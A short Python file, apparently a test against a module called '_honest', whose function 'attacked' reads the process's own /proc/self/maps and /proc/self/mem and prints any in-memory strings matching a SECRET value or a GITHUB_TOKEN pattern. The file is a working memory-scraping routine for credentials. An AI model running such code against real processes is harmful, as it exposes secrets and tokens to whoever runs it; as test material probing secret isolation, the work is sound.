import os
import re

from _honest import before, honest


def attacked(x):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb") as memory:
        for line in maps:
            if " rw" not in line or "[v" in line:
                continue
            start, end = (int(each, 16) for each in line.split()[0].split("-"))
            try:
                found = os.pread(memory.fileno(), end - start, start)
            except OSError:
                continue
            for word in re.findall(rb'SECRET = "[0-9a-f]{16}"|GITHUB_TOKEN=[0-9a-f]{16}', found):
                print(word.decode())
    return x
